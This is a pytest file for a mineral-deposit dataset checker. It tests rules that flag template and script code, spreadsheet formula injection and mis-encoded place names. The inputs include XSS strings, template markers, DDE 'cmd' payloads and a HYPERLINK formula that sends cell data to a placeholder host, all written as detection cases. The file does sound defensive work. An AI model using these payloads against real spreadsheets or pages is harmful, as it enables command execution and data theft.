"""Rules on texts that other programs would run, or that one has garbled."""

from __future__ import annotations

from typing import Any

import pytest

from geodeposits.finding import Finding, Severity
from tests.checks_kit import dataset, found_by


def findings(code: str, **rows: list[dict[str, Any]]) -> tuple[Finding, ...]:
    return found_by(code, dataset(**rows))


def named(code: str, name: str, **more: Any) -> tuple[Finding, ...]:
    deposit = {"id": "xx-d", "name": name, "country": "AU", "origin": "d.toml:1", **more}
    return findings(code, deposits=[deposit])


# --- GD701: code in texts ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("{{ config }}", "{{"),
        ("{% if %}", "{%"),
        ("{# remark #}", "{#"),
        ("<script>fetch('//x')</script>", "<script"),
        ("a <SCRIPT src=x>", "<SCRIPT"),
        ("a </script>", "</script"),
        ("a < script>", "< script"),
        ("see javascript:alert(1)", "javascript:"),
        ("see JavaScript :alert(1)", "JavaScript :"),
    ],
)
def test_code_in_a_text(text: str, found: str) -> None:
    (finding,) = named("GD701", text)
    assert finding.message == f"name {text!r} holds {found!r}, which is code: remove it"
    assert (finding.severity, finding.field) == (Severity.ERROR, "name")
    assert (finding.deposit, finding.origin) == ("xx-d", "d.toml:1")


@pytest.mark.parametrize(
    "text",
    [
        "Kvanefjeld",
        "{ in braces }",
        "< 5 % of scripts",
        "<scripture>",
        "descript",
        "JavaScript, a language",
        "nojavascript:x",
        "100 % } and { 5",
        "<b>bold</b>",
    ],
)
def test_words_that_are_no_code(text: str) -> None:
    assert named("GD701", text) == ()


def test_an_address_that_is_code_is_for_another_rule() -> None:
    source = {"key": "k", "title": "T", "url": "javascript:alert(1)", "origin": "k:1"}
    assert findings("GD701", sources=[source]) == ()
    assert len(findings("GD701", sources=[{**source, "url": "https://x/{{ a }}"}])) == 1
    assert len(findings("GD701", sources=[{**source, "title": "javascript:alert(1)"}])) == 1


@pytest.mark.parametrize(
    ("table", "row", "field"),
    [
        ("deposits", {"id": "d", "name": "D", "aliases": "E; {{ x }}"}, "aliases"),
        ("positions", {"claim": "c", "id": "d", "note": "{{ x }}"}, "note"),
        ("estimates", {"claim": "c", "id": "d", "stated": "{{ x }}"}, "stated"),
        ("partners", {"claim": "c", "id": "d", "party": "{{ x }}"}, "party"),
        ("waivers", {"id": "d", "code": "GD1", "reason": "{{ x }}"}, "reason"),
        ("parties", {"party": "P", "aliases": "{{ x }}"}, "aliases"),
        ("occurrences", {"occurrence_id": "u", "name": "{{ x }}"}, "name"),
        ("occurrence_estimates", {"claim": "c", "occurrence_id": "u", "zone": "{{ x }}"}, "zone"),
    ],
)
def test_every_text_of_every_table_is_looked_at(
    table: str, row: dict[str, Any], field: str
) -> None:
    (finding,) = findings("GD701", **{table: [row]})
    assert finding.field == field
    assert finding.message.startswith(f"{field} '{{{{ x }}}}' holds")


def test_each_row_that_holds_the_text_is_told() -> None:
    rows = [
        {"id": f"d{number}", "name": name, "aliases": aliases, "origin": f"d:{number}"}
        for number, (name, aliases) in enumerate(
            [("{{ x }}", None), ("fine", "{{ y }}; fine; {{ x }}"), ("{{ x }}", "fine")]
        )
    ]
    told = [
        (f.origin, f.field, f.message.split(" holds")[0]) for f in findings("GD701", deposits=rows)
    ]
    assert told == [
        ("d:0", "name", "name '{{ x }}'"),
        ("d:1", "aliases", "aliases '{{ x }}'"),
        ("d:1", "aliases", "aliases '{{ y }}'"),
        ("d:2", "name", "name '{{ x }}'"),
    ]


def test_a_cell_that_several_claims_repeat_is_told_once() -> None:
    claims = [
        {"claim": f"xx-d/{n}", "id": "xx-d", "source": "{{s}}", "origin": f"my.csv:{line}"}
        for n, line in enumerate((2, 2, 3))
    ]
    found = findings("GD701", positions=claims[:1], status=claims[1:])
    assert sorted(f.origin for f in found) == ["my.csv:2", "my.csv:3"]


def test_claims_without_a_line_are_each_told() -> None:
    claims = [{"claim": f"xx-d/{n}", "id": "xx-d", "source": "{{s}}"} for n in range(2)]
    assert len(findings("GD701", positions=claims)) == 2


def test_parts_repeat_the_words_of_their_whole() -> None:
    whole = {"claim": "d/a", "id": "d", "by_name": "{{ x }}"}
    told = findings("GD701", estimates=[whole, {**whole, "claim": "d/a/m", "part_of": "d/a"}])
    assert [finding.claim for finding in told] == ["d/a"]


# --- GD702: formulas -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://x.example/?"&A1, "map")',
        "=cmd|' /C calc'!A0",
        " =A1",
        "\t=A1",
        "\r=A1",
        "= A1",
        "＝A1",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "＠SUM(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "+SUM(A1:A9)",
        "-'C:/[other.xlsx]Sheet'!A1",
        "+[book]Sheet!$A$1",
        "+A1",
        "-$B$12",
        "@AB7*2",
        "-2+3",
        "+1*2.5/A1",
        "-2*A1",
        "fine;=SUM(A1)",
        "fine\t@SUM(A1)",
        'fine,"=cmd|x',
    ],
)
def test_texts_that_are_run(text: str) -> None:
    (finding,) = named("GD702", text)
    assert (
        finding.message
        == f"name {text!r} is run as a formula by a spreadsheet: begin it with a word"
    )
    assert (finding.severity, finding.field) == (Severity.WARNING, "name")


@pytest.mark.parametrize(
    "text",
    [
        "Kızılcaören",
        "a = b",
        "=",
        "-5",
        "+5.25 %",
        "-0.1",
        "+90 312 294 20 00",
        "@usgs",
        "@ 5 km",
        "- not stated",
        "-, see below",
        "+ byproducts (monazite)",
        "-west zone",
        "--",
        "+A1 zone",
        "+A0",
        "-ABCD1",
        "5+3",
        "A1",
        "grade; = 5 %",
        "x, @usgs says",
        "U.S. Geological Survey; (2020)",
    ],
)
def test_texts_that_are_not(text: str) -> None:
    assert named("GD702", text) == ()


# --- GD703: garbled letters ----------------------------------------------------------------------


def garbled(text: str, encoding: str = "cp1252") -> str:
    """Return UTF-8 as it shows in another encoding."""
    return text.encode("utf-8").decode(encoding)


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("Kızılcaören", "cp1252"),
        ("Kızılcaören", "latin-1"),
        ("Eskişehir", "cp1252"),
        ("Eskişehir", "latin-1"),
        ("Muğla, İzmir", "cp1252"),
        ("Çanakkale, Üsküdar, Ödemiş", "cp1252"),
        ("Araxá, São João", "latin-1"),
        ("Bayan Obo – Baiyunebo", "cp1252"),
        ("the “largest”, they say", "latin-1"),
        ("Ловозеро", "latin-1"),
        ("5 °C", "cp1252"),
        ("Kvænangen", "cp1252"),
        ("Norra Kärr", "cp1252"),
    ],
)
def test_utf_8_that_was_read_as_something_else(text: str, encoding: str) -> None:
    wrong = garbled(text, encoding)
    (finding,) = named("GD703", wrong)
    assert finding.message == f"name {wrong!r} was read in a wrong encoding: write {text!r}"
    assert (finding.severity, finding.field) == (Severity.WARNING, "name")


@pytest.mark.parametrize("country", ["AU", "TR", None])
def test_a_letter_that_was_lost(country: str | None) -> None:
    (finding,) = named("GD703", "K\ufffdz\ufffdlca\ufffdren", country=country)
    assert finding.message == (
        "name 'K\ufffdz\ufffdlca\ufffdren' has lost a letter (U+FFFD): read the source again"
    )


@pytest.mark.parametrize(
    ("text", "first"),
    [
        ("5Â km", "Â"),
        ("Â", "Â"),
        ("voilÃ la", "Ã"),
        ("KÃ¼tahya, CittÃ", "Ã"),
        ("aÃr", "Ã"),
        ("éÂ-x", "Â"),
    ],
)
def test_half_a_letter(text: str, first: str) -> None:
    (finding,) = named("GD703", text)
    assert finding.message == (
        f"name {text!r} has lost a letter after {first}, read in a wrong encoding: "
        "see the source again"
    )


@pytest.mark.parametrize(
    "text",
    [
        "Kızılcaören",
        "SÃO JOÃO",
        "MARANHÃO",
        "ÂNGELO, Ångström, Ärgern",
        "LA MÂ",
        "Åland – Sweden",
        "RÃ“ as in a title – no",
        "Ñandú, MUÑOZ",
        "Ðuro",
        "Þórshöfn",
        "â€ alone",
        "LAÂNE, aÃO, ÉÃ and LÂ",
    ],
)
def test_letters_that_are_right(text: str) -> None:
    assert named("GD703", text) == ()


TURKISH = [
    ("Eskiþehir", "Eskişehir"),
    ("Kýzýlcaören", "Kızılcaören"),
    ("Muðla", "Muğla"),
    ("Ýzmir", "İzmir"),
    ("Þanlýurfa", "Şanlıurfa"),
    ("AÐRI", "AĞRI"),
]


@pytest.mark.parametrize(("wrong", "right"), TURKISH)
def test_letters_of_icelandic_in_a_record_of_turkiye(wrong: str, right: str) -> None:
    (finding,) = named("GD703", wrong, country="TR")
    assert finding.message == f"name {wrong!r} has letters of Icelandic: write {right!r}"
    assert (finding.severity, finding.field) == (Severity.WARNING, "name")
    for country in ("IS", "AU", None):
        assert named("GD703", wrong, country=country) == ()


@pytest.mark.parametrize("key", ["id", "occurrence_id"])
def test_claims_of_a_record_of_turkiye(key: str) -> None:
    tables = {"id": ("deposits", "estimates"), "occurrence_id": ("occurrences",) * 2}[key]
    record = {key: "r", "name": "R", "country": "TR"}
    claim = {key: "r", "claim": "c", "stated": "Muðla"}
    if key == "id":
        told = findings("GD703", deposits=[record], estimates=[claim])
    else:
        told = findings("GD703", occurrences=[record], occurrence_estimates=[claim])
    assert [(f.claim, f.field) for f in told] == [("c", "stated")], tables


def test_claims_of_other_records_keep_their_letters() -> None:
    record = {"id": "r", "name": "R", "country": "TR"}
    claim = {"id": "other", "claim": "c", "stated": "Muðla"}
    assert findings("GD703", deposits=[record], estimates=[claim]) == ()


def test_a_party_of_turkiye() -> None:
    party = {"party": "Eti Maden Ýþletmeleri", "country": "TR", "origin": "p:1"}
    (finding,) = findings("GD703", parties=[party])
    assert finding.message.endswith("write 'Eti Maden İşletmeleri'")


def test_what_is_garbled_twice_is_told_once() -> None:
    (finding,) = named("GD703", "Kýzýlcaören, KÃ¼tahya", country="TR")
    assert "was read in a wrong encoding" in finding.message
